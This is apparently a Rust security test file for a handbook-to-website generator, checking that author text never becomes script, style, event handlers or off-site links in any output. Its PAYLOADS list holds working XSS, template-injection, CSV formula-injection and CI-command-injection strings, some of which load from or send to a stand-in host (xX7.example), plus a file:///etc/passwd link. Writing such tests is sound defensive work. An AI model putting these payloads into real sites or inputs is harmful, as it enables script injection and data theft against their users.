//! No text of an author runs, styles, calls another host or ends an attribute, whichever field it stands in.
use std::collections::BTreeSet;
use std::sync::Arc;

use html5ever::tendril::TendrilSink;
use journeybook::base::{Date, RelPath};
use journeybook::exchange;
use journeybook::handbook::{Corpus, Handbook, History, Scope};
use journeybook::model::{Accepts, Field, Kind, PartKind, RecordKind, Type, all_records, common_record, record_of};
use journeybook::site::{Page, Site, lexicon};
use journeybook::theme::Theme;
use journeybook::tree::{Change, Disk, Memory, Tree};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use serde_json::{Map, Value, json};

use crate::support::{TODAY, repository};

/// What an enemy writes. `xX7` marks it, wherever it ends up.
const PAYLOADS: &[&str] = &[
    "<script>alert('xX7')</script>",
    "</script><script src=https://xX7.example/x.js></script>",
    "</title></textarea></style></template><img src=x onerror=alert('xX7')>",
    "\"><img src=x onerror=alert('xX7')>",
    "' onmouseover='alert(\"xX7\")' x='",
    "xX7\" style=\"background:url(//xX7.example)\" onclick=\"x",
    "`xX7` onfocus=x autofocus <svg onload=alert(1)>",
    "{{ 7777 * 7777 }}{% for x in range(9) %}xX7{% endfor %}{# xX7 #}${7777*7777}<%= 7777*7777 %>",
    "{{ t('ui.frame.menu') | safe }}{% include 'base.html' %}{{ config.__class__ }}xX7",
    "{customer} {path} {repository} {title} {n} {name} xX7",
    "[xX7](javascript:alert(1)) ![xX7](javascript:alert(1)) <javascript:alert(1)>",
    "[xX7](JaVaScRiPt&#58;alert(1)) [a](java\tscript:alert) [b](&#x6a;avascript:xX7) [c](\u{1}javascript:xX7)",
    "[xX7](javascript%3Aalert(1)) [a](java%0ascript:xX7) [b](<java\u{a0}script:xX7>) [c](vbscript:xX7)",
    "[xX7](//xX7.example/x) [a](/\\xX7.example) [b](\\\\xX7.example) [c](/\t/xX7.example) [d](%2f%2fxX7.example) [e](./%2f/xX7.example)",
    "[xX7](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg onload=alert(1)>) [f](file:///etc/passwd)",
    "![xX7](https://xX7.example/pixel.png) ![x](http://xX7.example/p \"t\\\" onload=x\") <https://xX7.example/\"onclick=x>",
    "[xX7](https://xX7.example/\"onmouseover=alert(1)) [a](<https://xX7.example/'><script>>) [b](mailto:x@xX7.example?subject=\"><script>)",
    "<style>*{background:url(https://xX7.example)}</style><link rel=stylesheet href=//xX7.example><base href=//xX7.example>",
    "<meta http-equiv=refresh content=\"0;url=https://xX7.example\"><iframe srcdoc=\"<script>xX7</script>\"></iframe><form action=//xX7>",
    "<!--icons--> --> <!-- xX7 ]]> <![CDATA[ xX7 ]]> <?xml version='1'?> <!DOCTYPE xX7>",
    "href=\"#i-xX7\" #i-star <use href=\"#i-xX7\"/><math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "xX7\u{202e}evil\u{2066}\u{200b}\u{200d}\u{feff}\u{2028}\u{2029}\u{85}\u{ad}\u{e000}\u{fffd}\u{1f468}\u{200d}\u{1f469}",
    "xX7\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{1b}]0;xX7\u{7}\u{7f}\u{9b}31m",
    "xX7\r\n\r\n::error file=x::xX7\n%0A::set-output name=x::xX7\n---\n+++\ntitle: xX7",
    "=HYPERLINK(\"https://xX7.example\")|cmd|' /C calc'!A0",
    "xX7\"]; click p0 \"javascript:alert(1)\"; %%{init:{}}%%",
    "[[xX7]] [[persona:the-persona|<img src=x onerror=alert('xX7')>]] [[the-journey/the-step|xX7\" onclick=\"x]]",
    "[^xX7] ==xX7== ~~xX7~~ $xX7$ :xX7: \\<script>xX7\\</script> &lt;script&gt;xX7&lt;/script&gt; &amp;lt;script>",
    "<a id=_main name=location href=\"javascript:xX7\">xX7</a><img name=getElementById><form id=_toc><input name=attributes>",
    "<xX7 onclick=a><x xX7=1 /onload=b><svg><script>xX7</script><foreignObject><iframe>",
];

/// What stands in the body of every file, around the payload.
const BODY: &str = "\n\n# @@\n\n@@\n\n## @@ {#the-step}\n\n> @@\n\n> [!NOTE]\n> @@\n\n| @@ | a |\n|---|:-:|\n| @@ | @@ |\n\n- [ ] @@\n- @@\n\nterm @@\n: @@\n\n```@@\n@@\n```\n\n    @@\n\n[x][y] ![@@](pic.svg \"@@\") [file](pic.svg)[^n]\n\n[^n]: @@\n\n[y]: <@@> '@@'\n\n<div>\n@@\n</div>\n\n### @@ {.@@ #@@ onclick=@@}\n";

const PICTURE: &[u8] = b"<svg xmlns='http://www.w3.org/2000/svg' width='4' height='3' onload='alert(1)'><script>alert(1)</script></svg>";

/// How references are written.
#[derive(Clone, Copy, PartialEq)]
enum References {
    /// They lead somewhere, so that everything that hangs on them is drawn.
    Right,
    /// They are payloads too, so are all other values.
    Wrong,
}

struct Enemy {
    payload: String,
    references: References,
    /// Every declared text field that was filled: proof that none was missed.
    filled: std::cell::RefCell<BTreeSet<(&'static str, &'static str)>>,
}

impl Enemy {
    fn new(payload: &str, references: References) -> Enemy {
        Enemy { payload: payload.to_owned(), references, filled: Default::default() }
    }

    fn record(&self, record: &'static RecordKind) -> Map<String, Value> {
        record.fields.iter().map(|field| (field.name.to_owned(), self.field(record, field))).collect()
    }

    fn field(&self, record: &'static RecordKind, field: &Field) -> Value {
        self.filled.borrow_mut().insert((record.name, field.name));
        match (record.name, field.name) {
            ("every type", "draft") => json!(false),
            ("every type", "audience") if self.references == References::Right => json!(["everybody\" onclick=xX7"]),
            ("journey", "parent" | "counterpart") | ("improvement", "depends_on") | ("step", "journey")
                if self.references == References::Right =>
            {
                Value::Null
            }
            _ => self.value(&field.kind),
        }
    }

    fn value(&self, kind: &Kind) -> Value {
        let payload = || json!(self.payload);
        match kind {
            Kind::List(inner) => {
                let mut items = vec![self.value(inner)];
                items.extend(if let Kind::Either(short, _) = inner { Some(self.value(short)) } else { None });
                Value::Array(items)
            }
            Kind::Record(record) => Value::Object(self.record(record)),
            Kind::Either(_, full) => self.value(full),
            Kind::Map(key, value) => {
                let key = self.value(key).as_str().unwrap_or("x").to_owned();
                Value::Object([(key, self.value(value))].into_iter().collect())
            }
            Kind::Text | Kind::Plain | Kind::Owner => payload(),
            _ if self.references == References::Wrong => payload(),
            Kind::Id => json!("the-step"),
            Kind::Bool => json!(true),
            Kind::Date => json!("2026-01-01"),
            Kind::Duration => json!("5 days"),
            Kind::Money => json!("120 EUR"),
            Kind::Number(number) => json!(number.min.max(1.0)),
            Kind::Choice(words) => json!(words[0]),
            Kind::Rule => json!("stale"),
            Kind::Reference(accepts) => json!(id_of(accepts)),
            Kind::File => json!("pic.svg"),
            Kind::Web | Kind::WebOrFile => payload(),
        }
    }

    fn file(&self, kind: Type) -> String {
        let mut fields = self.record(common_record());
        fields.remove("status");
        fields.extend(self.record(record_of(kind)));
        fields.insert("type".into(), json!(kind.name()));
        if kind != Type::Organisation {
            fields.insert("id".into(), json!(format!("the-{}", kind.name())));
        }
        if let Some(phases) = fields.get_mut("phases").and_then(Value::as_array_mut) {
            name_phases(phases);
        }
        fields.retain(|_, value| !value.is_null());
        format!("---\n{}\n---{}", yaml(&Value::Object(fields)), self.body())
    }

    /// Payloads stay on their line, and a raw NUL would only make the file unreadable.
    fn body(&self) -> String {
        BODY.replace("@@", &self.payload.replace(['\n', '\r', '\0'], " "))
    }

    fn tree(&self) -> Memory {
        let book = format!(
            "title = {0}\nlanguage = 'en'\nbase_url = 'https://ours.example/'\nrepository = 'https://ours.example'\nedit = {0}\n\
             [audiences]\n{0} = {0}\n\"everybody\\\" onclick=xX7\" = 'us'\n",
            json!(self.payload.replace(['\u{7f}', '\u{0}'], " "))
        );
        let mut files = vec![path_and("book.toml", book.into_bytes()), path_and("content/index.md", self.file(Type::Organisation).into())];
        for kind in Type::ALL.iter().filter(|kind| !kind.folder().is_empty()) {
            files.push(path_and(&format!("content/{}/x.md", kind.folder()), self.file(*kind).into()));
            files.push(path_and(&format!("content/{}/pic.svg", kind.folder()), PICTURE.to_vec()));
            let intro = format!("---\ntitle: {}\n---{}", yaml(&json!(self.payload)), self.body());
            files.push(path_and(&format!("content/{}/index.md", kind.folder()), intro.into()));
        }
        files.push(path_and("content/pic.svg", PICTURE.to_vec()));
        Memory::new(files)
    }

    /// The site with everything shown, whatever the checks say of it: `serve` shows faulty handbooks too.
    fn site(&self) -> Site {
        drawn(self.handbook(), &self.tree())
    }

    fn handbook(&self) -> Arc<Handbook> {
        let tree = self.tree();
        let corpus = Corpus::read(&tree).unwrap_or_else(|error| panic!("{}: {error:?}", self.payload));
        let mut history = History::default();
        for document in &corpus.documents {
            let change = Change {
                date: Date::parse("2026-02-02").unwrap(),
                subject: self.payload.clone(),
                commit: "0".repeat(40),
                author: Some(self.payload.clone()),
            };
            history.changed.insert(document.source.path.clone(), change.clone());
            history.logs.insert(document.source.path.clone(), vec![change]);
        }
        Arc::new(Handbook::link(&corpus, Scope { drafts: true, ..Scope::everything() }, Arc::new(history)))
    }
}

fn drawn(handbook: Arc<Handbook>, tree: &dyn Tree) -> Site {
    let today = Date::parse(TODAY).unwrap();
    let findings = journeybook::rules::findings(&handbook, today);
    let (theme, wrong) = Theme::load(tree, None, lexicon(&handbook));
    assert!(wrong.is_empty(), "{wrong:?}");
    Site::new(handbook, theme, findings, today)
}

/// JSON is YAML but for characters that YAML wants escaped.
fn yaml(value: &Value) -> String {
    let escape = |c: char| {
        let code = u32::from(c);
        if matches!(code, 0x7f..=0x9f | 0xfeff | 0x2028 | 0x2029) { format!("\\u{code:04x}") } else { c.to_string() }
    };
    value.to_string().chars().map(escape).collect()
}

fn name_phases(phases: &mut Vec<Value>) {
    phases.truncate(1);
    for phase in phases.iter_mut().filter_map(Value::as_object_mut) {
        phase.insert("id".into(), json!("the-phase"));
        if let Some(steps) = phase.get_mut("steps").and_then(Value::as_array_mut) {
            steps.truncate(1);
        }
    }
}

fn id_of(accepts: &Accepts) -> String {
    let part = accepts.parts.first().map(|part| match part {
        PartKind::Phase | PartKind::Step if accepts.own_parts => "the-step",
        PartKind::Phase | PartKind::Step => "the-journey/the-step",
        PartKind::FrameworkPhase | PartKind::FrameworkStep => "the-framework/the-step",
        PartKind::RoadmapPhase => "the-roadmap/the-phase",
        PartKind::Task => "the-persona/the-step",
    });
    part.map_or_else(|| format!("the-{}", accepts.types[0].name()), str::to_owned)
}

fn path_and(path: &str, bytes: Vec<u8>) -> (RelPath, Vec<u8>) {
    (RelPath::new(path).unwrap(), bytes)
}

fn all_pages(site: &Site) -> Vec<(String, String)> {
    let mut pages = Vec::new();
    for route in site.routes() {
        let page = site.render(route).unwrap_or_else(|error| panic!("{}: {}", route.path, error.finding.message));
        if let Page::Bytes(bytes) = page {
            pages.extend(String::from_utf8(bytes.into_owned()).ok().map(|text| (route.path.to_string(), text)));
        }
    }
    pages
}

/// Elements and attributes as `name` and `name attribute`.
fn vocabulary(html: &str, into: &mut BTreeSet<String>) {
    walk(html, &mut |name, attributes, _| {
        into.insert(name.to_owned());
        into.extend(attributes.iter().map(|(attribute, _)| format!("{name} {attribute}")));
    });
}

type Visit<'v> = &'v mut dyn FnMut(&str, &[(String, String)], &Handle);

fn walk(html: &str, visit: Visit<'_>) {
    let dom = html5ever::parse_document(RcDom::default(), Default::default()).one(html);
    let mut open = vec![dom.document.clone()];
    while let Some(node) = open.pop() {
        open.extend(node.children.borrow().iter().rev().cloned());
        if let NodeData::Element { name, attrs, template_contents, .. } = &node.data {
            let attributes: Vec<_> = attrs.borrow().iter().map(|attr| (attr.name.local.to_string(), attr.value.to_string())).collect();
            visit(&name.local, &attributes, &node);
            open.extend(template_contents.borrow().iter().cloned());
        }
        if let NodeData::Comment { contents } = &node.data {
            visit("!", &[("comment".into(), contents.to_string())], &node);
        }
    }
}

/// What our own sample handbooks are drawn with: nothing else may occur in the enemy's.
fn ours() -> BTreeSet<String> {
    let mut known = BTreeSet::new();
    for root in [repository(), repository().join("tests/handbooks/de-linde")] {
        let tree = Disk::new(&root).unwrap();
        let corpus = Corpus::read(&tree).unwrap();
        let handbook = Arc::new(Handbook::link(&corpus, Scope::everything(), Arc::new(History::default())));
        for (path, text) in all_pages(&drawn(handbook, &tree)) {
            if path.ends_with(".html") {
                vocabulary(&text, &mut known);
            }
        }
    }
    // What Markdown can do and the samples do not.
    let more = ["del", "dl", "dt", "dd", "hr", "h6", "h5", "pre", "code", "code class", "br", "sup", "sub", "td class", "th class"];
    let more =
        more.into_iter().chain(["input", "input type", "input disabled", "input checked", "img title", "a title", "s", "!", "! comment"]);
    known.extend(more.map(str::to_owned));
    known
}

/// What of a page is not ours.
fn harm(path: &str, html: &str, known: &BTreeSet<String>, payload: &str, found: &mut Vec<String>) {
    walk(html, &mut |name, attributes, node| {
        let mut fail = |what: &str| found.push(format!("{path}: {what}: <{name} {attributes:?}> payload: {payload:?}"));
        if !known.contains(name) {
            fail("an element that is not ours");
        }
        if matches!(name, "script" | "style") && !node.children.borrow().is_empty() {
            fail("text of a script or style");
        }
        for (attribute, value) in attributes {
            if !(attribute == "id" || known.contains(&format!("{name} {attribute}"))) || attribute.starts_with("on") || attribute == "style"
            {
                fail("an attribute that is not ours");
            }
            if !may_be(name, attribute, value) {
                fail("a value that is not ours");
            }
        }
    });
}

fn may_be(name: &str, attribute: &str, value: &str) -> bool {
    let lower = value.to_lowercase();
    match (name, attribute) {
        ("a", "href") => ["https://", "http://", "mailto:", "tel:"].iter().any(|scheme| lower.starts_with(scheme)) || is_inside(value),
        ("link", "href") => lower.starts_with("https://ours.example/") || is_inside(value),
        // The curve of a map is drawn in several places from one.
        ("use", "href") => value == "#_c" || value.starts_with("#i-") && !value.contains("xX7"),
        (_, "href" | "src" | "srcset" | "action" | "formaction" | "poster" | "data" | "cite" | "background" | "xlink:href") => {
            is_inside(value)
        }
        ("meta", "content") => !lower.contains("url=") || is_inside(value.split_once("url=").map_or("", |(_, url)| url)),
        (_, "class" | "rel" | "type" | "name" | "http-equiv" | "role" | "target") => !value.contains("xX7"),
        (_, "id") => !value.is_empty() && !value.contains(char::is_whitespace),
        ("!", _) => !value.contains("xX7"),
        _ => true,
    }
}

/// A relative address, as a browser sees it.
fn is_inside(value: &str) -> bool {
    let plain: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    let before = plain.split(['/', '?', '#']).next().unwrap_or("");
    !before.contains(':') && !plain.starts_with('/') && !plain.contains('\\') && plain == value
}

#[test]
fn nothing_an_author_writes_is_anything_but_text() {
    let known = ours();
    let mut found = Vec::new();
    let right = PAYLOADS.iter().map(|payload| Enemy::new(payload, References::Right));
    let wrong = PAYLOADS.chunks(8).map(|some| Enemy::new(&some.join(" "), References::Wrong));
    for enemy in right.chain(wrong) {
        let payload = &enemy.payload;
        for (path, text) in all_pages(&enemy.site()) {
            assert!(!text.contains("60481729"), "{path}: {payload} was worked out");
            assert!(!text.contains('\0'), "{path}: {payload}");
            if path.ends_with(".html") {
                harm(&path, &text, &known, payload, &mut found);
            }
        }
    }
    assert!(found.is_empty(), "{} findings, such as\n{}", found.len(), found[..found.len().min(12)].join("\n"));
}

#[test]
fn every_declared_field_was_filled() {
    let enemy = Enemy::new("x", References::Right);
    enemy.tree();
    let filled = enemy.filled.borrow();
    for record in all_records() {
        for field in record.fields {
            assert!(filled.contains(&(record.name, field.name)), "{} of {}", field.name, record.name);
        }
    }
}

#[test]
fn the_enemys_handbook_is_drawn_in_full() {
    let site = Enemy::new("xX7 plain", References::Right).site();
    let pages = all_pages(&site);
    let of = |path: &str| pages.iter().find(|(at, _)| at == path).map_or("", |(_, text)| text);
    for kind in Type::ALL.iter().filter(|kind| !kind.folder().is_empty()) {
        let page = of(&format!("{0}/the-{1}.html", kind.folder(), kind.name()));
        assert!(page.matches("xX7").count() > 10, "{}: {page}", kind.name());
    }
    // Front matter that cannot be read would make the other tests of this file easy to pass.
    for payload in PAYLOADS {
        let handbook = Enemy::new(payload, References::Right).handbook();
        let broken: Vec<_> = handbook.entities.iter().filter(|node| node.entity.broken).map(|node| node.url.to_string()).collect();
        assert!(broken.is_empty(), "{payload:?}: {broken:?} {:?}", handbook.diagnostics.first());
    }
}

#[test]
fn what_programs_read_is_well_formed() {
    for payload in PAYLOADS {
        let site = Enemy::new(payload, References::Right).site();
        for (path, text) in all_pages(&site) {
            if path.ends_with(".xml") {
                let document = roxmltree::Document::parse(&text).unwrap_or_else(|error| panic!("{path}: {payload:?}: {error}"));
                let names: BTreeSet<&str> =
                    document.descendants().filter(|node| node.is_element()).map(|node| node.tag_name().name()).collect();
                let ours =
                    ["author", "entry", "feed", "id", "lastmod", "link", "loc", "name", "summary", "title", "updated", "url", "urlset"];
                assert!(names.iter().all(|name| ours.contains(name)), "{path}: {names:?}");
            }
            if path.ends_with(".json") {
                let read: Value = serde_json::from_str(&text).unwrap_or_else(|error| panic!("{path}: {payload:?}: {error}"));
                assert_eq!(read["format"], 1);
            }
            if path == "llms.txt" {
                let foreign = |line: &&str| !(line.is_empty() || line.starts_with(['#', '>']) || line.starts_with("- ["));
                assert_eq!(text.lines().find(foreign), None, "{payload:?}: {text}");
                assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{payload:?}: {text:?}");
            }
        }
        let handbook = &Enemy::new(payload, References::Right).handbook();
        let tables = exchange::csv(handbook, None);
        let mut rows = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(tables.as_bytes());
        for cell in rows.records().map(Result::unwrap).flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()) {
            assert!(!cell.starts_with(['=', '@', '\t', '\r', '\n']), "{cell}");
        }
        for line in exchange::mermaid(handbook, None).unwrap().lines() {
            assert!(line.matches('"').count() % 2 == 0 && !line.trim_start().starts_with(['c', '%']), "{line}");
        }
    }
}
